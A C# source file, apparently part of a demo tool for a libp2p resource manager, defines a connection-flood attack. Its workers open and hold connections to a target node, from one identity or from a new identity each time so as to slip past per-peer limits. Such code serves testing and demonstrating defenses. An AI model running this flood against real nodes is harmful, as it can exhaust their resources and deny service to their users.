using Rcmgr.Libp2p.Identity;
using Rcmgr.Libp2p.Multiaddr;

namespace Rcmgr.Tool.Demo.Attacks;

/// <summary>Opens connections and keeps them: all from one identity, or each from a new one.</summary>
internal sealed class ConnectionFlood(string kind, bool oneIdentity, int workers) : IAttack
{
    public string Kind => kind;

    public async Task RunAsync(Multiaddress target, AttackCount count, CancellationToken cancellationToken)
    {
        using HostIdentity shared = HostIdentity.Generate();
        await AttackLoop.RunAsync(workers, AttemptAsync, cancellationToken);

        async Task AttemptAsync(CancellationToken token)
        {
            if (oneIdentity)
            {
                await ConnectAsync(target, shared, count, token);
                return;
            }

            using HostIdentity own = HostIdentity.Generate();
            await ConnectAsync(target, own, count, token);
        }
    }

    private static async Task ConnectAsync(Multiaddress target, HostIdentity identity, AttackCount count, CancellationToken cancellationToken)
    {
        count.Attempt();
        await using BarePeer peer = await BarePeer.DialAsync(target, identity, cancellationToken);
        count.Admit();
        await peer.Completion.WaitAsync(cancellationToken);
        throw new IOException("The node closed the connection.");
    }
}
